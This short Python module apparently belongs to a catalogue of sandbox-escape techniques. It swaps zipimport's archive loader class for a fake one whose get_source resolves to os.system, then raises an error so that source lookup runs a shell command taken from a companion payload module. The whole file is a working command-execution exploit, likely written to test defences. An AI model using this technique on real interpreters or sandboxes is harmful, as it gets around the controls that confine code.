"""The class of archives' loaders is exchanged, and with it what is genuine."""
CATEGORY = "borrowed"
REACH = "run"

import os
import zipimport

from . import payload


class Give:
    def __get__(self, loader, kind=None):
        return self if loader is None else os.system


class Loader:
    get_source = Give()


def attack():
    vars(zipimport)["zipimporter"] = Loader
    names = {"__name__": payload.COMMAND, "__loader__": Loader()}
    exec(compile("1 / 0", "/there/is/none.py", "exec"), names)
